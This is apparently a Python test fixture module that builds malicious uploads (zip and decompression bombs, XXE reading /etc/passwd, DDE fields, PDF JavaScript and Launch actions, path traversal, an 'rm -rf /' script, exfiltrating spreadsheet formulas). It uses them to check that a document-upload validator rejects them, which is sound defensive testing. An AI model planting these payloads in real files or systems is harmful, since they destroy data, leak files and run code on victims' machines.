"""Files that must not come in, each with why: made here, none of them does harm by lying still."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from samspill.documents.refusals import Why
from tests.documents import phones
from tests.documents.made import (
    EICAR,
    docx_file,
    flipped,
    odf_file,
    parts_of,
    pdf_file,
    picture,
    pptx_file,
    spoilt_pdf,
    with_part,
    with_relation,
    with_words,
    xlsx_file,
    zipped,
)

Hostile = Iterator[tuple[str, bytes, Why]]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
PAGE = b"<html><script>alert(1)</script></html>"
RELS = "word/_rels/document.xml.rels"
BODY = "word/document.xml"
END = b"</w:body>"


def wrong_kinds() -> Hostile:
    """Names that say what we do not take."""
    yield "program.exe", b"MZ" + bytes(64), Why.KIND
    yield "side.html", PAGE, Why.KIND
    yield "tegning.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", Why.KIND
    yield "data.xml", b"<?xml version='1.0'?><a/>", Why.KIND
    yield "uten-ending", b"hei", Why.KIND
    yield "skript.js", b"alert(1)", Why.KIND
    yield "makro.docm", docx_file(), Why.MACRO
    yield "makro.xlsm", xlsx_file(), Why.MACRO
    yield "gammel.doc", OLE, Why.OLD_OFFICE
    yield "brev.rtf", b"{\\rtf1 hei}", Why.OLD_OFFICE
    yield "alt.zip", zipped({"a.txt": b"hei"}), Why.ARCHIVE
    yield "alt.tar.gz", b"\x1f\x8b", Why.ARCHIVE
    yield "tom.pdf", b"", Why.EMPTY
    yield "eicar.txt", EICAR, Why.OTHERWISE
    yield "eicar.com", EICAR, Why.KIND
    yield "regning.pdf.exe", pdf_file(), Why.KIND


def false_heads() -> Hostile:
    """Something else than the name says."""
    yield "bilde.png", PAGE, Why.OTHERWISE
    yield "bilde.png ", b"\x89PNG\r\n\x1a\n" + PAGE, Why.OTHERWISE
    yield "side.pdf", PAGE + pdf_file(), Why.OTHERWISE
    yield "side2.pdf", b"%PDF-1.7\n" + PAGE + pdf_file(), Why.OTHERWISE
    yield "pakke.pdf", pdf_file() + zipped({"a.exe": b"MZ"}), Why.OTHERWISE
    yield "tekst.docx", b"hei", Why.OTHERWISE
    yield "bok.docx", xlsx_file(), Why.OTHERWISE
    yield "brev.xlsx", docx_file(), Why.OTHERWISE
    yield "brev.odt", docx_file(), Why.OTHERWISE
    yield "tabell.odt", odf_file("ods"), Why.OTHERWISE
    yield "låst.docx", OLE, Why.OLD_OFFICE
    yield "side.txt", PAGE, Why.OTHERWISE
    yield "skall.txt", b"#!/bin/sh\nrm -rf /", Why.OTHERWISE
    yield "program.txt", b"MZ\x90\0\x03", Why.OTHERWISE
    yield "rik.txt", b"{\\rtf1 hei}", Why.OTHERWISE
    yield "brev.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>", Why.OTHERWISE
    yield "null.txt", b"hei\0hei", Why.OTHERWISE
    yield "pdf.jpg", pdf_file(), Why.OTHERWISE
    yield "gif.png", picture("GIF"), Why.OTHERWISE
    yield "foto.heic", picture("JPEG"), Why.OTHERWISE
    yield "foto.jpg", phones.PLAIN, Why.OTHERWISE
    yield "film.heic", phones.PLAIN.replace(b"ftypheic", b"ftypisom", 1), Why.OTHERWISE
    yield "nytt.heic", phones.PLAIN.replace(b"ftypheic", b"ftypavif", 1), Why.OTHERWISE
    yield "side.heif", b"\0\0\0\x18" + PAGE, Why.OTHERWISE


def bombs() -> Hostile:
    """Small files that become large."""
    zeros = bytes(150 * 1024 * 1024)
    yield "bombe.docx", with_part(docx_file(), "word/media/a.xml", zeros), Why.BOMB
    half = zeros[: 60 * 1024 * 1024]
    stored = parts_of(docx_file()) | {f"word/media/{n}.xml": half for n in range(4)}
    yield "fire.docx", zipped(stored), Why.BOMB
    many = parts_of(docx_file()) | {f"word/{n}.xml": b"<a/>" for n in range(2100)}
    yield "mange.docx", zipped(many), Why.BOMB
    yield "lag.docx", _overlapping(), Why.BOMB
    yield "lyver.docx", _says_less_than_it_holds(), Why.DAMAGED
    yield "bombe.pdf", spoilt_pdf(_stream_bomb, compress_streams=False), Why.BOMB
    yield "dobbel.pdf", spoilt_pdf(_double_bomb, compress_streams=False), Why.BOMB
    yield "bombe.png", _png_head(50_000, 50_000), Why.PIXELS
    yield "stort.gif", _gif_head(9_000, 9_000), Why.PIXELS
    yield "stort.heic", phones.as_large_as(50_000), Why.DAMAGED
    yield "kort.heic", phones.PLAIN[:-60], Why.DAMAGED
    yield "tomt.heic", phones.PLAIN[:40] + bytes(300), Why.DAMAGED
    yield "hull.heic", phones.PLAIN.replace(b"hvcC", b"xxxx"), Why.DAMAGED
    entity = b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    yield "latter.docx", with_part(docx_file(), "customXml/item1.xml", entity), Why.ACTIVE
    outside = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield "utenfra.odt", with_part(odf_file("odt"), "meta.xml", outside), Why.ACTIVE


def _overlapping() -> bytes:
    """Many entries that share the same packed bytes."""
    parts = parts_of(docx_file()) | {"word/one.xml": b"<a>" + b"x" * 900_000 + b"</a>"}
    packed = bytearray(zipped(parts))
    end = packed.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<L", packed, end + 16)[0]
    entry = packed.rfind(b"PK\x01\x02")
    one, extra = bytes(packed[entry:end]), bytearray()
    for number in range(200):
        extra += one.replace(b"word/one.xml", f"word/{number:03}.xml".encode(), 1)
    count = struct.unpack_from("<H", packed, end + 8)[0] + 200
    length = end - start + len(extra)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, length, start, 0)
    return bytes(packed[:end]) + bytes(extra) + tail


def _says_less_than_it_holds() -> bytes:
    content = bytearray(with_part(docx_file(), "word/x.xml", b"<a>" + b"y" * 5000 + b"</a>"))
    at = content.rfind(b"PK\x01\x02")
    struct.pack_into("<L", content, at + 24, 10)
    return bytes(content)


def _png_head(wide: int, high: int) -> bytes:
    head = b"IHDR" + struct.pack(">2L5B", wide, high, 8, 2, 0, 0, 0)
    chunks = (head, b"IDAT" + zlib.compress(bytes(9)), b"IEND")
    said = (struct.pack(">L", len(c) - 4) + c + struct.pack(">L", zlib.crc32(c)) for c in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(said)


def _gif_head(wide: int, high: int) -> bytes:
    return b"GIF89a" + struct.pack("<2H", wide, high) + picture("GIF")[10:]


def packages() -> Hostile:
    """Office files whose ZIP is not as it should be."""
    base = docx_file()
    yield "opp.docx", with_part(base, "../../etc/passwd.xml", b"<a/>"), Why.DAMAGED
    yield "rot.docx", with_part(base, "/etc/passwd.xml", b"<a/>"), Why.DAMAGED
    yield "disk.docx", with_part(base, "C:\\a.xml", b"<a/>"), Why.DAMAGED
    yield "lenke.docx", _with_symlink(base), Why.DAMAGED
    yield "to.docx", _twice(base), Why.DAMAGED
    yield "store.docx", with_part(base, "WORD/Document.xml", b"<a/>"), Why.DAMAGED
    yield "låst.xlsx", _marked_encrypted(xlsx_file()), Why.LOCKED
    yield "kuttet.docx", base[: len(base) // 2], Why.DAMAGED
    yield "sprukket.docx", _cracked(base), Why.DAMAGED
    yield "program.docx", with_part(base, "word/media/a.exe", b"MZ"), Why.EMBEDDED
    yield "virus.docx", with_part(base, "word/media/eicar.com", EICAR), Why.EMBEDDED
    yield "pakke.docx", with_part(base, "word/media/a.zip", zipped({"a": b"b"})), Why.EMBEDDED
    yield "halv.docx", with_part(base, "word/styles.xml", b"<w:styles"), Why.DAMAGED
    yield "bare.docx", zipped({"hei.xml": b"<a/>"}), Why.DAMAGED


def _with_symlink(content: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


def _twice(content: bytes) -> bytes:
    changed = with_part(content, "word/documens.xml", b"<a/>")
    return changed.replace(b"word/documens.xml", b"word/document.xml")


def _marked_encrypted(content: bytes) -> bytes:
    changed = bytearray(content)
    at = changed.find(b"PK\x01\x02")
    changed[at + 8] |= 1
    return bytes(changed)


def _cracked(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        one = max(package.infolist(), key=lambda info: info.compress_size)
        return flipped(content, one.header_offset + 30 + len(one.filename) + 40)


def office() -> Hostile:
    """Office files that do something by themselves."""
    base, book = docx_file(), xlsx_file()
    yield "makro.docx", with_part(base, "word/vbaProject.bin", OLE), Why.MACRO
    yield "makro2.xlsx", with_part(book, "xl/macrosheets/sheet1.xml", b"<a/>"), Why.MACRO
    as_macro = parts_of(base)
    as_macro["[Content_Types].xml"] = as_macro["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled.main+xml"
    )
    yield "kledd.docx", zipped(as_macro), Why.MACRO
    yield "knapp.docx", with_part(base, "word/activeX/activeX1.xml", b"<a/>"), Why.ACTIVE
    yield "ole.docx", with_part(base, "word/embeddings/oleObject1.bin", OLE), Why.EMBEDDED
    yield "bok.pptx", with_part(pptx_file(), "ppt/embeddings/a.xlsx", book), Why.EMBEDDED
    yield "mal.docx", with_relation(base, RELS, "attachedTemplate", "http://x.example/a.dotm",
                                    "External"), Why.OUTSIDE  # fmt: skip
    yield "bilde.docx", with_relation(base, RELS, "image", "http://x.example/a.png",
                                      "External"), Why.OUTSIDE  # fmt: skip
    yield "fil.docx", with_relation(base, RELS, "hyperlink", "file:///c:/a.exe",
                                    "External"), Why.OUTSIDE  # fmt: skip
    yield "deling.docx", with_relation(base, RELS, "hyperlink", "\\\\x.example\\a",
                                       "External"), Why.OUTSIDE  # fmt: skip
    yield "innhold.docx", with_relation(base, RELS, "aFChunk", "a.xml"), Why.EMBEDDED


def fields() -> Hostile:
    """Office files with words that are fetched, counted or run when somebody opens them."""
    base, book = docx_file(), xlsx_file()
    field = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\a.exe "x"</w:instrText></w:r></w:p>'
    yield "dde.docx", with_words(base, BODY, END, field), Why.ACTIVE
    cut = (
        b"<w:p><w:r><w:instrText>DD</w:instrText></w:r>"
        b"<w:r><w:instrText>E cmd x</w:instrText></w:r></w:p>"
    )
    yield "delt.docx", with_words(base, BODY, END, cut), Why.ACTIVE
    simple = b'<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'
    yield "enkel.docx", with_words(base, BODY, END, simple), Why.ACTIVE
    fetched = b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://x.example/a.png"/></w:p>'
    yield "hentet.docx", with_words(base, BODY, END, fetched), Why.OUTSIDE
    yield "lenket.xlsx", with_part(book, "xl/externalLinks/externalLink1.xml", b"<a/>"), Why.OUTSIDE
    yield "koblet.xlsx", with_part(book, "xl/connections.xml", b"<a/>"), Why.ACTIVE
    web = b'<row r="9"><c r="A9"><f>WEBSERVICE("http://x.example/"&amp;A1)</f></c></row>'
    yield (
        "web.xlsx",
        with_words(book, "xl/worksheets/sheet1.xml", b"</sheetData>", web),
        Why.OUTSIDE,
    )
    click = b'<p:a xmlns:p="x" action="ppaction://program?a.exe"/>'
    yield "klikk.pptx", with_part(pptx_file(), "ppt/slides/slide1.xml", click), Why.ACTIVE


def open_document() -> Hostile:
    """OpenDocument files that do."""
    base = odf_file("odt")
    yield "makro.odt", with_part(base, "Basic/Standard/Module1.xml", b"<a/>"), Why.MACRO
    yield "skript.odt", with_part(base, "Scripts/python/a.py", b"import os"), Why.MACRO
    event = b'<script:event-listener xmlns:script="urn:s" script:event-name="dom:load"/>'
    yield "lytter.odt", with_words(base, "content.xml", b"</office:text>", event), Why.ACTIVE
    image = b'<draw:image xmlns:draw="urn:d" xmlns:xlink="urn:x" xlink:href="http://x.example/a"/>'
    yield "henter.odt", with_words(base, "content.xml", b"</office:text>", image), Why.OUTSIDE
    local = image.replace(b"http://x.example/a", b"file:///etc/passwd")
    yield "leser.odt", with_words(base, "content.xml", b"</office:text>", local), Why.OUTSIDE
    ole = b'<draw:object-ole xmlns:draw="urn:d"/>'
    yield "ole.odt", with_words(base, "content.xml", b"</office:text>", ole), Why.ACTIVE
    dde = b'<text:dde-connection-decl xmlns:text="urn:t"/>'
    yield "dde.odt", with_words(base, "content.xml", b"</office:text>", dde), Why.ACTIVE
    manifest = b"</manifest:manifest>"
    locked = b"<manifest:encryption-data/>"
    yield "låst.odt", with_words(base, "META-INF/manifest.xml", manifest, locked), Why.LOCKED
    bare = {name: part for name, part in parts_of(base).items() if name != "mimetype"}
    yield "uten.odt", zipped(bare), Why.OTHERWISE


def pdfs() -> Hostile:
    """PDFs that do, are locked, or hold another file."""
    for name, (spoil, why) in _SPOILT.items():
        yield f"{name}.pdf", spoilt_pdf(spoil), why
    packed = pikepdf.ObjectStreamMode.generate
    yield "skjult.pdf", spoilt_pdf(_opens_script, object_stream_mode=packed), Why.ACTIVE
    lock = pikepdf.Encryption(user="", owner="x")
    yield "låst.pdf", spoilt_pdf(lambda _pdf: None, encryption=lock), Why.LOCKED
    shut = pikepdf.Encryption(user="hemmelig", owner="x")
    yield "stengt.pdf", spoilt_pdf(lambda _pdf: None, encryption=shut), Why.LOCKED
    yield "kuttet.pdf", pdf_file()[:300], Why.DAMAGED
    yield "støy.pdf", b"%PDF-1.7\n" + bytes(range(128, 256)) * 20, Why.DAMAGED
    spelled = b"\n9999 0 obj <</S/J#61vaScript/JS(x)>> endobj\n%%EOF\n"
    yield "stavet.pdf", pdf_file() + spelled, Why.ACTIVE


def _action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def _opens(action: Dictionary) -> object:
    def spoil(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action

    return spoil


def _opens_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(_action("JavaScript", JS=String("app.alert(1)")))


def _on_page(**entry: object) -> object:
    def spoil(pdf: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entry)
        pdf.pages[0].obj["/Annots"] = Array([pdf.make_indirect(note)])

    return spoil


def _named(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))


def _form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(b"<xdp/>"))


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.exe"] = b"MZ"


def _stream_elsewhere(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"")
    stream.stream_dict["/F"] = String("\\\\x.example\\a")
    pdf.pages[0].obj["/Thumb"] = stream


def _stream_bomb(pdf: pikepdf.Pdf) -> None:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1024 * 1024)) for _n in range(210)) + packer.flush()
    stream = pdf.make_stream(b"")
    stream.write(packed, filter=Name.FlateDecode)
    pdf.pages[0].obj["/Thumb"] = stream


def _double_bomb(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"")
    packed = zlib.compress(zlib.compress(bytes(1024)))
    stream.write(packed, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    pdf.pages[0].obj["/Thumb"] = stream


_SPOILT = {
    "skript": (_opens_script, Why.ACTIVE),
    "start": (_opens(_action("Launch", F=String("a.exe"))), Why.ACTIVE),
    "adresse": (_opens(_action("URI", URI=String("https://x.example"))), Why.ACTIVE),
    "send": (_on_page(Subtype=Name.Link, A=_action("SubmitForm")), Why.ACTIVE),
    "annen": (_on_page(Subtype=Name.Link, A=_action("GoToR", F=String("a.pdf"))), Why.ACTIVE),
    "inni": (_on_page(Subtype=Name.Link, A=_action("GoToE")), Why.ACTIVE),
    "fil": (
        _on_page(Subtype=Name.Link, A=_action("URI", URI=String("file:///c:/a.exe"))),
        Why.OUTSIDE,
    ),
    "js": (
        _on_page(Subtype=Name.Link, A=_action("URI", URI=String("javascript:alert(1)"))),
        Why.OUTSIDE,
    ),
    "mus": (_on_page(Subtype=Name.Link, AA=Dictionary()), Why.ACTIVE),
    "film": (_on_page(Subtype=Name.Movie), Why.EMBEDDED),
    "vedlegg": (_on_page(Subtype=Name.FileAttachment), Why.EMBEDDED),
    "tredje": (_on_page(Subtype=Name("/3D")), Why.EMBEDDED),
    "navn": (_named, Why.ACTIVE),
    "skjema": (_form, Why.ACTIVE),
    "lagt-ved": (_attached, Why.ACTIVE),
    "strøm": (_stream_elsewhere, Why.OUTSIDE),
}


def pictures() -> Hostile:
    """Pictures that are cut, or none."""
    png = picture("PNG", (200, 200))
    yield "kuttet.jpg", picture("JPEG", (400, 400))[:300], Why.DAMAGED
    yield "kuttet.png", png[: len(png) - 60], Why.DAMAGED
    yield "falsk.webp", b"RIFF\x10\0\0\0WEBPVP8 " + bytes(8), Why.DAMAGED
    yield "falsk.gif", b"GIF89a;<script>alert(1)</script>", Why.DAMAGED


FAMILIES = (
    *(wrong_kinds, false_heads, bombs, packages, office),
    *(fields, open_document, pdfs, pictures),
)
